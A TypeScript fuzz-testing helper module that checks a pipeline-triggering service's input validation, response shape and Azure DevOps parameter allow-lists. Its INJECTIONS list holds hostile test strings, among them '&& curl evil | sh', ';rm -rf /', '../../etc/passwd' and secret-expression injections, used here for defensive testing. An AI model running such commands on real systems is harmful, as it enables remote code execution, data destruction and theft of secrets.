/**
 * Shared pieces of the fuzz suites: run counts, hostile values, the pipeline-parameter
 * allow-lists as an oracle, and checks that hold for every response of every endpoint.
 *
 * `FUZZ_RUNS` sets the cases per endpoint (default small, for `npm test`); `FUZZ_SEED`
 * replays a run (fast-check prints the seed and the counterexample of any failure).
 */
import fc from 'fast-check';
import { expect } from 'vitest';
import {
  isCommitSha,
  isSafeBranchName,
  isSafeModelName,
  isSafeModelVersion,
} from '../../src/core/validation.js';
import type { AdoEmulator, RecordedRequest } from '../../tools/ado-emulator/server.js';
import { isRecord } from '../../tools/json.js';
import { TEST_SECRETS } from '../support/appEnv.js';
import { ORG, PROJECT } from '../support/stack.js';

export const FUZZ_RUNS = positiveInteger(process.env.FUZZ_RUNS, 150);
const FUZZ_SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);

function positiveInteger(text: string | undefined, fallback: number): number {
  if (text === undefined || text === '') return fallback;
  const value = Number(text);
  if (!Number.isSafeInteger(value) || value < 1) throw new Error(`FUZZ_RUNS must be a positive integer`);
  return value;
}

/** fast-check parameters for one endpoint's property. */
export function fuzzParameters(): { numRuns: number; seed?: number } {
  return {
    numRuns: FUZZ_RUNS,
    ...(FUZZ_SEED === undefined || !Number.isSafeInteger(FUZZ_SEED) ? {} : { seed: FUZZ_SEED }),
  };
}

/** A test's time budget: a fixed allowance plus `perCaseMs` for each case. */
export function fuzzTimeout(perCaseMs: number): number {
  return 60_000 + FUZZ_RUNS * perCaseMs;
}

export class FuzzStats {
  readonly startedAt = Date.now();
  cases = 0;
  readonly statuses = new Map<number, number>();
  readonly notes = new Map<string, number>();

  status(status: number): void {
    this.cases++;
    this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1);
  }

  note(what: string): void {
    this.notes.set(what, (this.notes.get(what) ?? 0) + 1);
  }

  /** Counts the skip/ignore reasons the app logged (`"reason":"…"`): which gates the cases reached. */
  reasons(logs: readonly string[]): void {
    for (const line of logs) {
      const reason = /"reason":"([a-z-]{1,40})"/.exec(line)?.[1];
      if (reason !== undefined) this.note(reason);
    }
  }

  /** One line per endpoint, e.g. `[fuzz] githubPush: 10000 cases in 61.2 s; statuses 200×…`. */
  report(endpoint: string): string {
    const seconds = ((Date.now() - this.startedAt) / 1000).toFixed(1);
    const statuses = [...this.statuses.entries()]
      .sort(([a], [b]) => a - b)
      .map(([status, count]) => `${status}×${count}`)
      .join(' ');
    const notes = [...this.notes.entries()].map(([what, count]) => `${what}×${count}`).join(' ');
    const line = `[fuzz] ${endpoint}: ${this.cases} cases in ${seconds} s; statuses ${statuses}${notes === '' ? '' : `; ${notes}`}`;
    console.log(line);
    return line;
  }
}

/** Collects unhandled rejections and uncaught exceptions of this process (the host runs in it). */
export function watchProcessErrors(): { readonly errors: unknown[]; stop(): void } {
  const errors: unknown[] = [];
  const onError = (error: unknown): void => {
    errors.push(error);
  };
  process.on('unhandledRejection', onError);
  process.on('uncaughtExceptionMonitor', onError);
  return {
    errors,
    stop: () => {
      process.off('unhandledRejection', onError);
      process.off('uncaughtExceptionMonitor', onError);
    },
  };
}

/**
 * Host log lines that mean a function threw (the host answered 500 or retried a message), or
 * that the worker dropped a message it could not read (a delivery lost).
 */
export function hostFailures(logs: readonly string[]): string[] {
  return logs
    .filter(
      (line) =>
        line.startsWith('[local-host] unhandled') ||
        /^\[[A-Za-z]+\] failed/.test(line) ||
        line.includes('unreadable message dropped'),
    )
    .map((line) => line.slice(0, 500));
}

// --- Hostile values ---------------------------------------------------------------------------

/** Strings that have hurt pipelines, shells, loggers and parsers somewhere. */
export const INJECTIONS = [
  '$(curl evil)',
  '`curl evil`',
  ';rm -rf /',
  'main;rm -rf /',
  '&& curl evil | sh',
  '${{ secrets.PAT }}',
  '$(System.AccessToken)',
  '##vso[task.setvariable variable=commit]evil',
  '##[error]',
  '../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f',
  '%00',
  '\u0000',
  '\r\nX-Injected: 1',
  '\u202egnp.exe',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  '😀',
  'İı',
  'ﬀ',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '{"__proto__":{"polluted":1}}',
  '__proto__',
  'constructor',
  'null',
  '-1',
  '1e999',
  'refs/heads/main',
  'sha256=',
  ' ',
  '',
] as const;

/** Mostly short strings of every kind, sometimes an injection, sometimes an overlong one. */
export function hostileString(options: { readonly maxLength?: number } = {}): fc.Arbitrary<string> {
  const maxLength = options.maxLength ?? 200_000;
  const short = Math.min(maxLength, 64);
  const arbitraries: fc.Arbitrary<string>[] = [
    fc.string({ maxLength: short }),
    fc.string({ unit: 'grapheme', maxLength: short }),
    fc.string({ unit: 'binary', maxLength: short }),
    fc.string({ unit: 'binary-ascii', maxLength: short }),
    fc.constantFrom(...INJECTIONS).filter((value) => value.length <= maxLength),
    fc
      .tuple(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 8 }), fc.constantFrom(...INJECTIONS))
      .map(([a, b, c]) => `${a}${b}${c}`.slice(0, maxLength)),
  ];
  if (maxLength > short) {
    arbitraries.push(
      fc
        .tuple(fc.integer({ min: short, max: maxLength }), fc.constantFrom('A', '😀', '\\"', '{', '%'))
        .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length)),
    );
  }
  return fc.oneof(...arbitraries);
}

/** A lone surrogate cannot be percent-encoded; a URL carries U+FFFD in its place. */
export function wellFormed(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

/** Values a header may carry over HTTP/1.1, trimmed as fetch sends them. */
export function headerValue(maxLength = 200): fc.Arbitrary<string> {
  return (
    fc
      .oneof(
        fc.string({ unit: 'binary-ascii', maxLength }),
        fc.string({ maxLength }),
        fc.constantFrom(...INJECTIONS),
        fc.integer({ min: 0, max: 8_000 }).map((length) => 'h'.repeat(length)),
      )
      // HTTP/1.1 field values: tab, visible ASCII, space and obs-text (Node's parser refuses other controls).
      .map((value) => value.replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '?'))
      .map((value) => value.replace(/^[\t ]+|[\t ]+$/g, ''))
  );
}

/** Header names fetch lets through (the ones it manages itself are left out). */
const MANAGED_HEADERS = new Set([
  'host',
  'content-length',
  'connection',
  'transfer-encoding',
  'keep-alive',
  'upgrade',
  'expect',
  'te',
  'trailer',
]);

/** A few extra headers of any name and value. */
export function extraHeaders(): fc.Arbitrary<Record<string, string>> {
  return fc
    .dictionary(
      fc.oneof(
        fc.stringMatching(/^[a-z][a-z0-9-]{0,24}$/),
        fc.constantFrom(
          'x-forwarded-for',
          'x-forwarded-host',
          'x-original-url',
          'x-http-method-override',
          'x-ms-client-principal',
          'x-functions-key',
          'cookie',
          'accept-encoding',
          'content-encoding',
        ),
      ),
      headerValue(),
      { maxKeys: 3 },
    )
    .map((headers) =>
      Object.fromEntries(Object.entries(headers).filter(([name]) => !MANAGED_HEADERS.has(name))),
    );
}

/** Bytes that are not JSON, or barely: random bytes, unicode text, truncated or deeply nested JSON. */
export function garbageBody(): fc.Arbitrary<Uint8Array> {
  const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');
  return fc.oneof(
    fc.uint8Array({ maxLength: 512 }),
    fc.string({ unit: 'binary', maxLength: 256 }).map(text),
    fc.jsonValue({ maxDepth: 4 }).map((value) => text(JSON.stringify(value))),
    fc
      .tuple(fc.integer({ min: 1, max: 200_000 }), fc.constantFrom('[', '{"a":'))
      .map(([depth, open]) => text(open.repeat(depth) + (open === '[' ? ']' : '1}').repeat(depth))),
    fc.integer({ min: 1, max: 200_000 }).map((depth) => text('['.repeat(depth))),
    fc
      .constantFrom(
        '',
        'null',
        '[]',
        '{}',
        '"string"',
        '1e999',
        '{"a":1,"a":2}',
        '\ufeff{}',
        '{"__proto__":{"polluted":true}}',
      )
      .map(text),
  );
}

// --- Azure DevOps calls ---------------------------------------------------------------------------

/** Every request that asked Azure DevOps to start a run of `pipelineId`, whatever the answer. */
export function runRequests(emulator: AdoEmulator, pipelineId: number): RecordedRequest[] {
  return emulator
    .requests()
    .filter(
      (request) =>
        request.method === 'POST' &&
        request.path.toLowerCase().endsWith(`/_apis/pipelines/${pipelineId}/runs`),
    );
}

/** Every request that asked Azure DevOps to create a classic release. */
export function classicReleaseRequests(emulator: AdoEmulator): RecordedRequest[] {
  return emulator
    .requests()
    .filter(
      (request) =>
        request.method === 'POST' && request.path.toLowerCase().endsWith('/_apis/release/releases'),
    );
}

/** The `templateParameters` of a run request, or `undefined` when it has none. */
export function templateParametersOf(request: RecordedRequest): Record<string, unknown> | undefined {
  if (!isRecord(request.body)) return undefined;
  const parameters = request.body.templateParameters;
  return isRecord(parameters) ? parameters : undefined;
}

export interface ModelLocation {
  /** e.g. http://127.0.0.1:10000/devstoreaccount1 */
  readonly blobEndpoint: string;
  readonly container: string;
}

const FILE_SEGMENT = /^[A-Za-z0-9][A-Za-z0-9._-]{0,127}$/;
const FLOW_ID = /^[0-9a-f]{20}$/;
const SHA256 = /^[0-9a-f]{64}$/;
const BUILD_ID = /^[1-9][0-9]{0,9}$/;

/**
 * Why a build run's parameters are not what the allow-lists in src/core/validation.ts permit
 * (empty when they are). The model URI must be a blob of the app's own models container.
 */
export function buildParameterViolations(
  parameters: Readonly<Record<string, unknown>>,
  models: ModelLocation,
): string[] {
  const problems: string[] = [];
  const allowed: Record<string, (value: string) => boolean> = {
    commit: (value) => value === '' || isCommitSha(value),
    branch: isSafeBranchName,
    modelName: isSafeModelName,
    modelVersion: isSafeModelVersion,
    modelUri: (value) => isOwnModelUri(value, models),
    modelSha256: (value) => SHA256.test(value),
    flowId: (value) => FLOW_ID.test(value),
    trigger: (value) => value === 'push' || value === 'model',
  };
  for (const [name, value] of Object.entries(parameters)) {
    const check = allowed[name];
    if (check === undefined) problems.push(`unexpected parameter ${name}`);
    else if (typeof value !== 'string') problems.push(`${name} is not a string`);
    else if (!check(value)) problems.push(`${name}=${JSON.stringify(value.slice(0, 200))}`);
  }
  for (const name of Object.keys(allowed))
    if (!(name in parameters)) problems.push(`missing parameter ${name}`);
  return problems;
}

/** Why release parameters (pipeline templateParameters or classic variables) are not allowed. */
export function releaseParameterViolations(parameters: Readonly<Record<string, unknown>>): string[] {
  const problems: string[] = [];
  const allowed: Record<string, (value: string) => boolean> = {
    buildId: (value) => BUILD_ID.test(value),
    imageTag: (value) => BUILD_ID.test(value),
    modelName: isSafeModelName,
    modelVersion: isSafeModelVersion,
    commit: isCommitSha,
    flowId: (value) => FLOW_ID.test(value),
  };
  for (const [name, value] of Object.entries(parameters)) {
    const check = allowed[name];
    const text = isRecord(value) ? value.value : value;
    if (check === undefined) problems.push(`unexpected parameter ${name}`);
    else if (typeof text !== 'string') problems.push(`${name} is not a string`);
    else if (!check(text)) problems.push(`${name}=${JSON.stringify(text.slice(0, 200))}`);
  }
  return problems;
}

function isOwnModelUri(value: string, models: ModelLocation): boolean {
  const prefix = `${models.blobEndpoint}/${models.container}/`;
  if (!value.startsWith(prefix)) return false;
  // Blob URLs are percent-encoded ("+" arrives as %2B); nothing else (no query, no fragment) may follow.
  const path = value.slice(prefix.length);
  if (!/^[A-Za-z0-9._/%+-]{1,1024}$/.test(path)) return false;
  let decoded: string[];
  try {
    decoded = path.split('/').map((segment) => decodeURIComponent(segment));
  } catch {
    return false;
  }
  const [name, version, ...file] = decoded;
  return (
    name !== undefined &&
    version !== undefined &&
    file.length > 0 &&
    isSafeModelName(name) &&
    isSafeModelVersion(version) &&
    file.every((segment) => FILE_SEGMENT.test(segment))
  );
}

// --- Responses -------------------------------------------------------------------------------------

/** Traces of a stack or of the code's location: none may reach a caller. */
const STACK_TRACE = /\n\s*at |\bat [^\s()]+ \(|file:\/\/|node_modules|\/work\/|\.[cm]?[jt]s:\d+/;

/**
 * An answer of the app's own: never a stack trace; an error (4xx/5xx with a body) is the
 * problem shape — a code, a message and the invocation id to find the logs.
 */
export function expectSafeResponse(status: number, text: string): void {
  expect(text, 'a response carries a stack trace or a source path').not.toMatch(STACK_TRACE);
  if (status < 400 || text === '') return;
  const body: unknown = JSON.parse(text);
  expect(body).toEqual({
    error: { code: expect.stringMatching(/^[A-Z_]+$/), message: expect.any(String) },
    correlationId: expect.stringMatching(/^[0-9a-f-]{36}$/),
  });
}

// --- Azure DevOps set-up ---------------------------------------------------------------------------

/** Starts a run by hand through the emulator's REST API (as a person in the portal would); answers its id. */
export async function startRunByHand(
  emulator: AdoEmulator,
  pipelineId: number,
  options: {
    readonly refName?: string;
    readonly templateParameters?: Readonly<Record<string, string>>;
  } = {},
): Promise<number> {
  const response = await fetch(
    `${emulator.orgUrl(ORG)}/${PROJECT}/_apis/pipelines/${pipelineId}/runs?api-version=7.1`,
    {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Basic ${Buffer.from(`:${TEST_SECRETS.pat}`).toString('base64')}`,
      },
      body: JSON.stringify({
        templateParameters: options.templateParameters ?? {},
        resources: { repositories: { self: { refName: options.refName ?? 'refs/heads/main' } } },
      }),
    },
  );
  const body: unknown = await response.json();
  const id = isRecord(body) ? body.id : undefined;
  if (!response.ok || typeof id !== 'number')
    throw new Error(`Starting a run of pipeline ${pipelineId} failed: ${response.status}`);
  return id;
}
